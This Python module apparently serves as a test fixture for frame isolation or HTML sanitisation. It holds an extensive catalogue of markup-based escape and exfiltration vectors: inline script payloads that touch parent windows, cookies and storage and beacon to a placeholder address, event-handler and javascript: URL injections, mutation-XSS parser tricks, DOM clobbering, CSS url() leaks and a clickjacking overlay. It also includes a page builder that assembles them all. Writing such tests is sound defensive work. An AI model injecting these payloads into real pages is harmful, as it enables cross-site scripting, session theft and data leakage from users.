"""Ways to break out of a frame by markup, and a page that tries them all.

Each way requests an address that ends in its name, so that the third party knows which one got through, or tries to
leave the mark "owned" on the document around it.
"""

MARK = "owned"
# What a script would do if it ran: in its own window, around it, in storage, on the network.
PAYLOAD = (
    "try{window.owned=1;parent.owned=1;top.owned=1;parent.document.title='owned';"
    "parent.document.body.innerHTML='owned';localStorage.setItem('owned','1');document.cookie='owned=1'}catch(e){};"
    "new Image().src='URL';fetch('URL');navigator.sendBeacon('URL');"
)

# Loaded as soon as a browser sees it, by a bare page.
AT_ONCE = {
    "script": "<script src=URL></script>",
    "script-inline": "<script>PAYLOAD</script>",
    "script-module": "<script type=module>import 'URL'</script>",
    "script-broken": "<scr<script>ipt>PAYLOAD</scr</script>ipt>",
    "script-svg": "<svg><script>PAYLOAD</script></svg>",
    "script-svg-href": "<svg><script href=URL></script></svg>",
    "onerror": '<img src=x onerror="PAYLOAD">',
    "onerror-slashes": '<img/src=x/onerror="PAYLOAD">',
    "onload-svg": '<svg onload="PAYLOAD"></svg>',
    "onload-body": '<body onload="PAYLOAD">',
    "ontoggle": '<details open ontoggle="PAYLOAD"><summary>a</summary>b</details>',
    "onfocus": '<input autofocus onfocus="PAYLOAD">',
    "onstart": '<svg><animate onbegin="PAYLOAD" attributeName=x dur=1s></svg>',
    "onanimationstart": '<style>@keyframes k{}</style><b style=animation-name:k onanimationstart="PAYLOAD">a</b>',
    "image": "<img src=URL alt=a>",
    "image-srcset": '<img srcset="URL 1x, URL?2 2x" alt=a>',
    "image-picture": '<picture><source srcset="URL"><img alt=a></picture>',
    "image-lazy": "<img loading=lazy src=URL alt=a width=1 height=1>",
    "image-svg": '<svg width=9 height=9><image href="URL" width=9 height=9 /></svg>',
    "image-xlink": '<svg width=9 height=9><image xlink:href="URL" width=9 height=9 /></svg>',
    "svg-use": '<svg><use href="URL#a"></use></svg>',
    "svg-feimage": '<svg><filter id=f><feImage href="URL"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
    "svg-set": '<svg width=9 height=9><image width=9 height=9><set attributeName=href to="URL" /></image></svg>',
    "svg-style": "<svg><style>@import 'URL';</style></svg>",
    "svg-foreign": "<svg><foreignObject><img src=URL></foreignObject></svg>",
    "image-data-svg": "<img alt=a src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='URL' width='9' height='9'/><script>PAYLOAD</script></svg>\">",
    "image-data-html": "<img alt=a src='data:text/html,<script>PAYLOAD</script>'>",
    "image-data-capitals": "<img src='DATA:IMAGE/SVG+XML,<svg xmlns=http://www.w3.org/2000/svg onload=PAYLOAD/>'>",
    "image-old": "<img lowsrc=URL dynsrc=URL longdesc=URL alt=a>",
    "image-attribution": "<img attributionsrc=URL alt=a src=data:,>",
    "image-protocol-relative": "<img src=//third.example/image-protocol-relative alt=a>",
    "input-image": "<input type=image src=URL alt=a>",
    "background": "<table background=URL><tr><td>a</table>",
    "background-body": "<body background=URL>",
    "style-import": "<style>@import url(URL);</style>",
    "style-import-quoted": "<style>@import 'URL';</style>",
    "style-import-escaped": r"<style>@\69mport 'URL';</style>",
    "style-url": "<style>.hostile-a{background:url(URL)}</style><b class=hostile-a>a</b>",
    "style-url-escaped": r"<style>.hostile-b{background:u\72 l(URL)}</style><b class=hostile-b>a</b>",
    "style-url-comment": "<style>.hostile-c{background:/**/url(/**/URL)}.hostile-c{background:url('URL')}</style>"
    "<b class=hostile-c>a</b>",
    "style-image-set": "<style>.hostile-d{background-image:image-set('URL' 1x)}</style><b class=hostile-d>a</b>",
    "style-image-set-old": "<style>.hostile-e{background-image:-webkit-image-set(url(URL) 1x)}</style>"
    "<b class=hostile-e>a</b>",
    "style-font": "<style>@font-face{font-family:h;src:url(URL)}.hostile-f{font-family:h}</style>"
    "<b class=hostile-f>a</b>",
    "style-content": "<style>.hostile-g::before{content:url(URL)}</style><b class=hostile-g>a</b>",
    "style-cursor": "<style>html{cursor:url(URL),auto}</style>",
    "style-list": '<ul style="list-style-image:url(URL)"><li>a</ul>',
    "style-border": '<b style="border:9px solid;border-image:url(URL) 9">a</b>',
    "style-mask": '<b style="-webkit-mask-image:url(URL)">a</b>',
    "style-variable": "<style>:root{--x:url(URL)}.hostile-h{background:var(--x)}</style><b class=hostile-h>a</b>",
    "style-attribute": '<b style="background:url(URL)">a</b>',
    "style-attribute-escaped": r'<b style="background:\75\72\6c(URL)">a</b>',
    "style-attribute-entity": '<b style="background&#58;&#117;rl(URL)">a</b>',
    "style-attribute-quote": "<b style='background:url(\"URL\")'>a</b>",
    "style-nested": "<style>.hostile-i{& b{background:url(URL)}}</style><i class=hostile-i><b>a</b></i>",
    "style-media": "<style media=all>@media all{.hostile-j{background:url(URL)}}</style><b class=hostile-j>a</b>",
    "style-namespace": "<style>@namespace url(URL);@import url(URL);</style>",
    "style-unclosed": "<style>.hostile-k{background:url(URL)}</style/><b class=hostile-k>a</b>",
    "style-charset": "<style>@charset 'utf-8';@import url(URL) layer(x);</style>",
    "style-page": "<style>@layer a;@import url(URL) supports(display:block) screen;</style>",
    "style-filter": '<b style="filter:url(URL#f);clip-path:url(URL#c);mask:url(URL#m)">a</b>',
    "style-shape": '<i style="float:left;width:9px;height:9px;shape-outside:url(URL)">a</i>',
    "style-cross-fade": '<b style="background:-webkit-cross-fade(url(URL),url(URL?2),50%)">a</b>',
    "style-local-font": "<style>@font-face{font-family:l;src:local(no),url('URL')}.hostile-l{font-family:l}</style>"
    "<b class=hostile-l>a</b>",
    "style-counter": "<style>@counter-style c{system:cyclic;symbols:url(URL)}</style><ul style=list-style:c><li>a</ul>",
    "style-data-svg": "<b style=\"background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22>"
    "<image href=%22URL%22/></svg>')\">a</b>",
    "style-import-relative": "<style>@import '//third.example/style-import-relative';</style>",
    "style-import-comment": "<style>@import/**/url(/*)*/URL);</style>",
    "style-newline": "<style>.hostile-m{background:u\\\nrl(URL)}.hostile-m{background:url(\nURL\n)}</style>"
    "<b class=hostile-m>a</b>",
    "style-binding": '<b style="behavior:url(URL);-moz-binding:url(URL#x)">a</b>',
    "style-unfinished": "<style>.hostile-n{background:url(URL</style><b class=hostile-n>a</b>",
    "style-string-end": "<style>.hostile-o{content:'</style><img src=URL>'}</style>",
    "style-escaped-end": r"<style>.hostile-p::before{content:'\3c/style\3e\3cimg src=URL\3e'}</style>"
    "<b class=hostile-p>a</b>",
    "link-stylesheet": "<link rel=stylesheet href=URL>",
    "link-stylesheet-quirk": '<link href="URL" rel="alternate stylesheet preload" as=style>',
    "link-icon": "<link rel=icon href=URL>",
    "link-prefetch": "<link rel=prefetch href=URL>",
    "link-preload": "<link rel=preload as=image href=URL>",
    "link-modulepreload": "<link rel=modulepreload href=URL>",
    "link-imagesrcset": "<link rel=preload as=image imagesrcset='URL 1x'>",
    "importmap": '<script type=importmap>{"imports": {"x": "URL"}}</script>',
    "link-manifest": "<link rel=manifest href=URL>",
    "link-preconnect": "<link rel=preconnect href=URL>",
    "link-dns-prefetch": "<link rel=dns-prefetch href=URL>",
    "link-prerender": "<link rel=prerender href=URL>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>',
    "iframe": "<iframe src=URL></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>PAYLOAD</script><img src=URL>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:PAYLOAD"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<img src=URL>"></iframe>',
    "object": "<object data=URL></object>",
    "object-html": "<object type=text/html data=URL></object>",
    "embed": "<embed src=URL>",
    "applet": "<applet code=a codebase=URL></applet>",
    "object-param": "<object><param name=movie value=URL><param name=src value=URL></object>",
    "fencedframe": "<fencedframe src=URL></fencedframe>",
    "marquee": '<marquee onstart="PAYLOAD">a</marquee>',
    "video-handler": '<video src=x onerror="PAYLOAD"></video>',
    "dialog": '<dialog open><form method=dialog action=URL><input autofocus onfocus="PAYLOAD"></form></dialog>',
    "editable": '<b contenteditable autofocus onfocus="PAYLOAD">a</b>',
    "meta-prefetch": "<meta http-equiv=x-dns-prefetch-control content=on>",
    "portal": "<portal src=URL></portal>",
    "frameset": "<frameset><frame src=URL></frameset>",
    "video": "<video src=URL autoplay></video>",
    "video-poster": "<video poster=URL></video>",
    "video-source": "<video autoplay><source src=URL></video>",
    "audio": "<audio src=URL autoplay></audio>",
    "track": "<video src=data:, ><track default src=URL></video>",
    "noscript": "<noscript><img src=URL></noscript>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=URL onerror=PAYLOAD>"></noscript>',
    "template": "<template><img src=URL></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=URL><slot></slot></template>a</div>",
    "textarea-breakout": "<textarea></textarea><img src=URL></textarea>",
    "title-breakout": "<title></title><img src=URL></title>",
    "xmp-breakout": "<xmp></xmp><img src=URL></xmp>",
    "style-breakout": "<style></style><img src=URL></style>",
    "comment-breakout": "<!--><img src=URL>-->",
    "comment-bang": "<!-- --!><img src=URL> -->",
    "conditional": "<!--[if true]><img src=URL><![endif]-->",
    "cdata": "<svg><![CDATA[><img src=URL>]]></svg>",
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL&gt;'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=URL onerror=PAYLOAD>",
    "mutation-svg": "<svg></p><style><a id='</style><img src=URL onerror=PAYLOAD>'>",
    "mutation-annotation": '<math><annotation-xml encoding="text/html"><style><img src=URL></style></annotation-xml>',
    "mutation-select": "<select><style></select><img src=URL onerror=PAYLOAD></style>",
    "mutation-noembed": "<noembed><img title='</noembed><img src=URL>'></noembed>",
    "base": "<base href=URL/ target=_top>",
    "relative-image": "<img src=/relative-image.png alt=a>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=URL">',
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "meta-cookie": '<meta http-equiv=Set-Cookie content="owned=1">',
    "ping-form": "<form id=auto action=URL method=post target=_top><input name=a value=owned></form>"
    "<script>document.getElementById('auto').submit()</script>",
    "clobber": "<form id=document name=body><input name=parentNode id=app><input id=main><input id=token name=token>"
    "<a id=fetch href=URL>a</a><a id=blocks>a</a><img name=getElementById><img name=querySelector></form>",
    "control-characters": '<img src="\x01URL" alt=a><a href="java\tscript:PAYLOAD">a</a>',
}

# Requests something only when a person acts on it; the test clicks them all.
AT_A_CLICK = {
    "link": "<a class=click href=URL>link</a>",
    "link-top": "<a class=click href=URL target=_top>link to the top</a>",
    "link-parent": "<a class=click href=URL target=_parent>link to the parent</a>",
    "link-blank": "<a class=click href=URL target=_blank rel=opener>link to a new window</a>",
    "link-ping": "<a class=click href=#x ping=URL>link with a ping</a>",
    "link-download": "<a class=click href=URL download>download</a>",
    "link-javascript": '<a class=click href="javascript:PAYLOAD">script link</a>',
    "link-javascript-entity": '<a class=click href="&#106;avascript:PAYLOAD">script link</a>',
    "link-javascript-newline": '<a class=click href="java&#10;script:PAYLOAD">script link</a>',
    "link-data": '<a class=click href="data:text/html,<script>PAYLOAD</script>">data link</a>',
    "link-svg": '<svg width=60 height=20><a href="URL" target=_top><text class=click y=15>drawn</text></a></svg>',
    "link-map": "<img usemap=#m width=20 height=20 class=click alt=map src=data:,>"
    "<map name=m><area shape=default href=URL target=_top></map>",
    "link-math": '<math href="javascript:PAYLOAD"><mtext class=click>formula link</mtext></math>',
    "link-animated": "<svg width=60 height=20><a><animate attributeName=href values='javascript:PAYLOAD' />"
    "<text class=click y=15>drawn link</text></a></svg>",
    "link-access": '<input type=hidden accesskey=x onclick="PAYLOAD"><a class=click accesskey=y href=URL>key link</a>',
    "popover": '<button class=click popovertarget=p>open it</button><div id=p popover onbeforetoggle="PAYLOAD">a</div>',
    "form": "<form action=URL target=_top><button class=click>send</button></form>",
    "form-button": "<form><button class=click formaction=URL formtarget=_top>send</button></form>",
    "form-input": "<form action=URL target=_blank><input type=submit class=click value=send></form>",
    "form-image": "<form action=URL target=_top><input type=image class=click alt=send src=data:,></form>",
    "form-dialog": '<button class=click onclick="PAYLOAD">press</button>',
    "details": '<details ontoggle="PAYLOAD"><summary class=click>open</summary>b</details>',
    "overlay": '<a class=click href=URL target=_top style="position:fixed;inset:0;z-index:99999;opacity:.01">all</a>',
}
# Text that becomes markup if it is written into a page unescaped: it appears in titles, results and metadata.
WORDS = "</textarea></script></style></title></pre><img src=URL onerror=PAYLOAD>\"'`${owned}<!--"

_ARTICLE = "<p>The harbour master wrote down every ship that came in before the fog, and kept the list for years.</p>"


def fill(markup: str, name: str, address: str) -> str:
    """Return a way with its payload and the address that it requests."""
    return markup.replace("PAYLOAD", PAYLOAD).replace("URL", f"{address}/{name}")


def make_page(address: str) -> str:
    """Return a page that tries all ways with an address, around an article that is its body text."""
    escaped = (
        fill(WORDS, "words", address)
        .replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace('"', "&quot;")
    )
    tries = "\n".join(
        f"<div>{fill(one, name, address)}</div>{_ARTICLE}"
        for name, one in (AT_ONCE | AT_A_CLICK).items()
    )
    return (
        f'<!doctype html><html><head><title>{escaped}</title><meta name=author content="{escaped}">'
        f'<meta name=description content="{escaped}"><meta property=og:site_name content="{escaped}">'
        f'</head><body><article><h1 class="{escaped}">{escaped}</h1><p>{escaped} {_ARTICLE}</p>{_ARTICLE * 3}</article>'
        f"{tries}</body></html>"
    )
